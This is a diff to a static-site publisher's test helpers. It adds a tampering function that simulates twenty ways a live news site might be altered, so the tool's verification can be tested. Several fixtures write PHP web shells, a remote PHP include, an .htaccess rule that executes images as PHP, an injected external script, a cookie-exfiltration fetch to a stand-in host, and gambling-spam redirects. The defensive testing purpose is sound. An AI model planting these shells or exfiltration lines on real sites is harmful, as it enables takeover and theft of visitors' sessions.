@@ -225,6 +225,127 @@ def news_site(root: Path, publish: str, posts: int = 2) -> Path:
     return write_site(root, files, config_text(extra=publish))
 
 
+def sftp_publish(server, extra: str = "") -> str:
+    """The `publish:` section of config.yaml for target 'utama' on a test sshd (tests/servers.py start_sshd)."""
+    return f"""\
+publish:
+  utama:
+    type: sftp
+    host: 127.0.0.1
+    port: {server.port}
+    user: {server.user}
+    path: {server.root}
+{extra}"""
+
+
+def folder_publish(root: Path, extra: str = "") -> str:
+    """The `publish:` section of config.yaml for target 'utama', a folder target at root."""
+    return f"""\
+publish:
+  utama:
+    type: folder
+    path: {root}
+{extra}"""
+
+
+GAMBLING_PAGE = ("<html><body><h1>Slot Gacor Hari Ini</h1><p>Daftar situs slot gacor maxwin, togel online terpercaya."
+                 "</p><a href=\"https://slot-gacor.example/daftar\">DAFTAR</a></body></html>")
+
+
+def tamper(root: Path, scenario: str) -> set[str]:
+    """One way a live site is changed behind the office's back, done to the target's folder on disk (a folder
+    target, or the folder an SFTP/FTP test server serves); the paths verify must name. See TAMPERINGS."""
+    def write(rel: str, data: bytes, keep_time: bool = False) -> None:
+        path = root / rel
+        times = path.stat() if keep_time else None
+        path.parent.mkdir(parents=True, exist_ok=True)
+        path.write_bytes(data)
+        if times is not None:
+            os.utime(path, ns=(times.st_atime_ns, times.st_mtime_ns))
+
+    def edit(rel: str, old: bytes, new: bytes) -> None:
+        data = (root / rel).read_bytes()
+        assert old in data, (rel, old)
+        write(rel, data.replace(old, new, 1))
+
+    page = "2024/05/01/berita-0/index.html"
+    if scenario == "php-shell":
+        write("wp-content/uploads/shell.php", b"<?php system($_GET['c']); ?>")
+        return {"wp-content/uploads/shell.php"}
+    if scenario == "injected-page":
+        write("slot-gacor-maxwin.html", GAMBLING_PAGE.encode())
+        return {"slot-gacor-maxwin.html"}
+    if scenario == "changed-index":
+        edit("index.html", b"</body>", b'<div style="display:none"><a href="https://togel.example/">togel online'
+                                        b'</a></div></body>')
+        return {"index.html"}
+    if scenario == "changed-htaccess":
+        edit(".htaccess", b"\n", b"\nRedirect 302 / https://slot-gacor.example/\n")
+        return {".htaccess"}
+    if scenario == "replaced-photo":
+        write("2024/05/01/berita-0/foto-64w.jpg", b"\xff\xd8\xff\xe0 bukan foto kami")
+        return {"2024/05/01/berita-0/foto-64w.jpg"}
+    if scenario == "deleted-page":
+        (root / "profil/index.html").unlink()
+        return {"profil/index.html"}
+    if scenario == "spam-folder":
+        for i in range(3):
+            write(f"judi/halaman-{i}.html", GAMBLING_PAGE.encode())
+        return {f"judi/halaman-{i}.html" for i in range(3)}
+    if scenario == "changed-search-index":
+        index = sorted((root / "pagefind/index").iterdir())[0]
+        rel = index.relative_to(root).as_posix()
+        write(rel, bytes(b ^ 0x55 for b in index.read_bytes()), keep_time=True)
+        return {rel}
+    if scenario == "same-size-time-back":
+        data = (root / page).read_bytes()
+        changed = data.replace(b"Isi berita 0.", b"Isi berita X.", 1)
+        assert len(changed) == len(data) and changed != data
+        write(page, changed, keep_time=True)
+        return {page}
+    if scenario == "script-injected":
+        edit(page, b"</head>", b'<script src="https://cdn.jahat.example/x.js"></script></head>')
+        return {page}
+    if scenario == "changed-feed":
+        edit("feed.xml", b"</channel>", b"<item><title>Slot gacor</title></item></channel>")
+        return {"feed.xml"}
+    if scenario == "deleted-asset":
+        (root / "assets/style.css").unlink()
+        return {"assets/style.css"}
+    if scenario == "changed-robots":
+        edit("robots.txt", b"\n", b"\nDisallow: /\n")
+        return {"robots.txt"}
+    if scenario == "new-htaccess-below":
+        write("assets/.htaccess", b"AddHandler application/x-httpd-php .jpg\n")
+        return {"assets/.htaccess"}
+    if scenario == "php-disguised-as-photo":
+        write("2024/05/01/berita-0/foto.php.jpg", b"<?php eval($_POST['x']); ?>")
+        return {"2024/05/01/berita-0/foto.php.jpg"}
+    if scenario == "index-php-beside-index":       # many hosts serve index.php before index.html
+        write("index.php", b"<?php include 'https://slot-gacor.example/p.txt'; ?>")
+        return {"index.php"}
+    if scenario == "changed-script":
+        edit("assets/cari.js", b"\n", b"\nfetch('https://jahat.example/c?'+document.cookie);\n")
+        return {"assets/cari.js"}
+    if scenario == "changed-sitemap":
+        edit("sitemap.xml", b"</urlset>", b"<url><loc>https://kaltara.kpu.go.id/slot-gacor/</loc></url></urlset>")
+        return {"sitemap.xml"}
+    if scenario == "deleted-photo":
+        (root / "2024/05/02/berita-1/foto-64w.webp").unlink()
+        return {"2024/05/02/berita-1/foto-64w.webp"}
+    if scenario == "changed-404":
+        edit("404.html", b"</body>", b'<meta http-equiv="refresh" content="0;url=https://judi.example/"></body>')
+        return {"404.html"}
+    raise ValueError(scenario)
+
+
+TAMPERINGS = ("php-shell", "injected-page", "changed-index", "changed-htaccess", "replaced-photo", "deleted-page",
+              "spam-folder", "changed-search-index", "same-size-time-back", "script-injected", "changed-feed",
+              "deleted-asset", "changed-robots", "new-htaccess-below", "php-disguised-as-photo",
+              "index-php-beside-index", "changed-script", "changed-sitemap", "deleted-photo", "changed-404")
+INJECTED_BY = {"injected-page", "changed-index", "spam-folder", "script-injected", "changed-404"}   # reported as DISUSUPI first
+
+
 def tree(folder: Path, skip: tuple[str, ...] = ()) -> dict[str, bytes]:
     """Every file under a folder as relative path -> bytes (to compare two outputs, or a target with output/)."""
     return {p.relative_to(folder).as_posix(): p.read_bytes() for p in sorted(folder.rglob("*"))
